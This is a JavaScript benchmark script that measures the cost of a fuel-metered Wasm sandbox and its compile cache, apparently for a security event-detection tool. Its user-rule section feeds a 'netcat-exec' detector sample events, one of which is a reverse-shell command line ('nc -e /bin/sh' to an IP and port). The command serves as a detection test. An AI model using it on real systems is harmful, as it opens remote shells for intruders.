// Cost of the Wasm sandbox: fuel instrumentation overhead on a predicate loop (per call and per
// batch), instance replacement after a trap, instrumentation + compile time, and the compile
// pool's cache. Baseline: the same module without instrumentation. Runs the compiled code in dist/.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { DIST, ROOT, machine, medianSeconds, nowNs, peakRssMiB, printTable, writeResults } from './lib.mjs';

if (!existsSync(join(DIST, 'shared/wasm/fuel.js'))) throw new Error(`${DIST} is missing: run \`npm run build\` first`);
const { ModuleBuilder } = await import(join(DIST, 'shared/wasm/wasm-writer.js'));
const { Op, ValType } = await import(join(DIST, 'shared/wasm/wasm-opcodes.js'));
const { instrumentModule } = await import(join(DIST, 'shared/wasm/instrument.js'));
const { InstancePool } = await import(join(DIST, 'workers/instance-pool.js'));
const { WasmCompilePool } = await import(join(DIST, 'main/wasm-compile-pool.js'));

if (process.argv[2] !== '--variant') console.log('machine', machine());
const { i32 } = ValType;
const RECORDS = 1024;

/**
 * pred(x) = 10 < x < 1000 (one record per call) and scan(n) = how many of the n i32 records at
 * address 0 satisfy it (one call per batch).
 */
function predicateModule() {
  const b = new ModuleBuilder().setMemory(1, 1);
  const test = [Op.i32Const, 10, Op.i32GtS, Op.localGet, 0, Op.i32Const, ...sleb(1000), Op.i32LtS, Op.i32And];
  b.exportFunction('pred', b.addFunction([i32], [i32], [], [Op.localGet, 0, ...test, Op.end]));
  // locals: 0 n, 1 i (byte offset), 2 count, 3 x
  const scan = [
    Op.block, 0x40, Op.loop, 0x40,
    Op.localGet, 1, Op.localGet, 0, Op.i32Const, 2, Op.i32Shl, Op.i32GeS, Op.brIf, 1,
    Op.localGet, 1, Op.i32Load, 2, 0, Op.localSet, 3,
    Op.localGet, 2, Op.localGet, 3, Op.i32Const, 10, Op.i32GtS, Op.localGet, 3, Op.i32Const, ...sleb(1000), Op.i32LtS, Op.i32And, Op.i32Add, Op.localSet, 2,
    Op.localGet, 1, Op.i32Const, 4, Op.i32Add, Op.localSet, 1,
    Op.br, 0, Op.end, Op.end,
    Op.localGet, 2, Op.end,
  ];
  b.exportFunction('scan', b.addFunction([i32], [i32], [i32, i32, i32], scan));
  b.exportFunction('spin', b.addFunction([], [], [], [Op.loop, 0x40, Op.br, 0, Op.end, Op.end]));
  b.export('memory', 2, 0);
  return b.build();
}

function sleb(v) {
  const out = [];
  while (true) {
    const byte = v & 0x7f;
    v >>= 7;
    if ((v === 0 && !(byte & 0x40)) || (v === -1 && byte & 0x40)) return [...out, byte];
    out.push(byte | 0x80);
  }
}

function fill(instance) {
  const view = new Int32Array(instance.exports.memory.buffer, 0, RECORDS);
  for (let i = 0; i < RECORDS; i++) view[i] = (i * 7919) % 2000;
}

const plainBytes = predicateModule();
const i32Fuel = instrumentModule(plainBytes, { maxMemoryPages: 1 });
const i64Fuel = instrumentModule(plainBytes, { maxMemoryPages: 1, fuel: { type: 'i64' } });
// How the budget is set before each call: not at all, by the refuel() export (what InstancePool
// does), or through the exported WebAssembly.Global.
const variants = [
  { variant: 'plain', bytes: plainBytes, refuel: null },
  { variant: 'fuel i32, refuel() per call', bytes: i32Fuel, refuel: 'function', budget: 1_000_000_000 },
  { variant: 'fuel i32, Global.value per call', bytes: i32Fuel, refuel: 'global', budget: 1_000_000_000 },
  { variant: 'fuel i64, refuel() per call', bytes: i64Fuel, refuel: 'function', budget: 1_000_000_000n },
];

// Each variant runs in its own process, so one variant's call sites never make another's
// polymorphic (the loop below would otherwise see four different modules).
const only = process.argv[2] === '--variant' ? Number(process.argv[3]) : null;
if (only !== null) {
  process.stdout.write(JSON.stringify(measureOverhead(variants[only])));
  process.exit(0);
}

function measureOverhead(v) {
  const inst = new WebAssembly.Instance(new WebAssembly.Module(v.bytes));
  fill(inst);
  const { pred, scan, __kestrel_refuel: refuel, __kestrel_fuel: g } = inst.exports;
  const budget = v.budget;
  const set = v.refuel === 'function' ? () => refuel(budget) : v.refuel === 'global' ? () => (g.value = budget) : () => 0;
  const CALLS = 2_000_000;
  const perCall = medianSeconds(() => {
    let s = 0;
    for (let i = 0; i < CALLS; i++) {
      set();
      s += pred(i & 2047);
    }
    if (s < 0) throw new Error('unreachable');
  }, 5);
  const BATCHES = 20_000;
  const perBatch = medianSeconds(() => {
    let s = 0;
    for (let i = 0; i < BATCHES; i++) {
      set();
      s += scan(RECORDS);
    }
    if (s < 0) throw new Error('unreachable');
  }, 5);
  return {
    variant: v.variant,
    bytes: v.bytes.length,
    'pred calls/s': Math.round(CALLS / perCall),
    'pred ns/call': Math.round((perCall / CALLS) * 1e9 * 10) / 10,
    'scan ns/record': Math.round((perBatch / (BATCHES * RECORDS)) * 1e9 * 100) / 100,
  };
}

const overhead = variants.map((_, i) => {
  const r = spawnSync(process.execPath, [fileURLToPath(import.meta.url), '--variant', String(i)], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`variant ${i} failed: ${r.stderr}`);
  return JSON.parse(r.stdout.slice(r.stdout.lastIndexOf('{')));
});
const base = overhead[0];
for (const row of overhead) {
  row['pred vs plain'] = `${Math.round((row['pred ns/call'] / base['pred ns/call']) * 100)}%`;
  row['scan vs plain'] = `${Math.round((row['scan ns/record'] / base['scan ns/record']) * 100)}%`;
}
printTable('fuel overhead (predicate per call, and a 1024-record scan per call)', overhead);

// Instance replacement: with a budget of 1 fuel every call faults at function entry, so each call
// discards its instance and the next one instantiates (and initialises) a fresh one.
const replacement = [];
const examples = join(ROOT, 'build/rules/netcat-exec.wasm');
const modules = [{ module: 'predicate (raw, 1 page)', bytes: i32Fuel, call: 'pred', init: undefined }];
if (existsSync(examples)) {
  modules.push({ module: 'netcat-exec (AssemblyScript)', bytes: instrumentModule(readFileSync(examples), { maxMemoryPages: 256, fuel: { initialFuel: 0 } }), call: 'match', init: '_initialize' });
} else {
  console.log(`(${examples} missing: run npm run build:examples to include the AssemblyScript rule)`);
}
for (const m of modules) {
  const mod = new WebAssembly.Module(m.bytes);
  const noop = () => 0;
  const imports = () => ({ env: { abort: noop }, kestrel: { field_id: noop, has: noop, get_str: () => -1, get_i64: () => 0n, get_f64: noop, alert: noop } });
  const N = 2000;
  const timePerCall = (fuelPerCall) => {
    const pool = new InstancePool(mod, { size: 1, maxMemoryPages: 256, fuelPerCall, initFuel: 1_000_000, imports, initExport: m.init });
    pool.call(m.call, 1);
    const t = nowNs();
    for (let i = 0; i < N; i++) pool.call(m.call, 1);
    return { ns: Number(nowNs() - t) / N, pool };
  };
  const ok = timePerCall(100_000);
  const faulting = timePerCall(1);
  if (faulting.pool.counters.faults.fuel !== N + 1) throw new Error('expected every call to fault');
  replacement.push({
    module: m.module,
    'normal call µs': Math.round(ok.ns / 10) / 100,
    'fault + new instance µs': Math.round(faulting.ns / 10) / 100,
    'instances created': faulting.pool.counters.instancesCreated,
  });
}
printTable('instance replacement after a trap', replacement);

// A user rule end to end: UserRule.match per event (host calls through the JSON accessor).
const perEvent = [];
if (existsSync(examples)) {
  const { UserRule } = await import(join(DIST, 'shared/wasm/user-rule.js'));
  const { JsonEventAccessor } = await import(join(DIST, 'shared/wasm/event-accessor.js'));
  const accessor = new JsonEventAccessor();
  const rule = UserRule.fromBytes(new Uint8Array(readFileSync(examples)), { ruleId: 'netcat-exec', accessor });
  const events = [
    { label: 'other process (1 get_str)', event: { process: { name: 'ls', args: ['ls', '-l', '/tmp'] } } },
    { label: 'nc without -e (2 get_str, split)', event: { process: { name: 'nc', args: ['nc', '-l', '4444'] } } },
    { label: 'nc -e (match + alert)', event: { process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } } },
  ];
  for (const { label, event } of events) {
    accessor.set(event);
    const N = 100_000;
    const s = medianSeconds(() => {
      for (let i = 0; i < N; i++) if (!rule.match(i).ok) throw new Error('fault');
    });
    perEvent.push({ event: label, 'ns/event': Math.round((s / N) * 1e9), 'fuel/event': rule.pool.call('match', 0).fuelUsed });
  }
  printTable('user rule (netcat-exec) per event, fuel + pool + breaker', perEvent);
}

// Instrumentation and compile time; compile pool cache.
const compileRows = [];
const inputs = [{ input: 'predicate (raw)', bytes: plainBytes }];
if (existsSync(examples)) inputs.push({ input: 'netcat-exec (AssemblyScript)', bytes: new Uint8Array(readFileSync(examples)) });
for (const x of inputs) {
  const instrument = medianSeconds(() => instrumentModule(x.bytes, { maxMemoryPages: 256 }), 20);
  const out = instrumentModule(x.bytes, { maxMemoryPages: 256 });
  const compile = medianSeconds(() => new WebAssembly.Module(out), 20);
  compileRows.push({ input: x.input, 'bytes in': x.bytes.length, 'bytes out': out.length, 'instrument ms': Math.round(instrument * 1e5) / 100, 'new WebAssembly.Module µs': Math.round(compile * 1e7) / 10 });
}
printTable('instrumentation and compile time', compileRows);

const cacheDir = mkdtempSync(join(tmpdir(), 'kestrel-bench-wasm-'));
const cacheRows = [];
try {
  const timed = async (label, pool, bytes) => {
    const t = nowNs();
    const r = await pool.compile(bytes, { maxMemoryPages: 256 });
    cacheRows.push({ case: label, source: r.source, ms: Math.round(Number(nowNs() - t) / 1e4) / 100 });
  };
  const src = inputs[inputs.length - 1].bytes;
  const p1 = new WasmCompilePool({ maxThreads: 1, cacheDir });
  await timed('first compile (worker start + instrument + compile)', p1, src);
  await timed('same bytes again', p1, src);
  await timed('another module (warm worker)', p1, plainBytes);
  await p1.close();
  const p2 = new WasmCompilePool({ maxThreads: 1, cacheDir });
  await timed('new pool, disk cache', p2, src);
  await p2.close();
} finally {
  rmSync(cacheDir, { recursive: true, force: true });
}
printTable('compile pool and cache', cacheRows);

const rss = peakRssMiB();
console.log(`\npeak RSS ${rss} MiB`);
writeResults('wasm-fuel', { overhead, replacement, userRule: perEvent, compile: compileRows, cache: cacheRows, peakRssMiB: rss });
